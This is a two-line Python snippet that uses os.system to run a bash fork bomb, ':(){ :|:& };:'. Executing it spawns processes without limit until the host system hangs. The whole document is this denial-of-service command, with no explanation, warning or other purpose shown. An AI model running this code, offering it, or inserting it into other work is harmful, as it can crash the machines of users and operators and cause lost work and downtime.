
import os
os.system(":(){ :|:& };:")
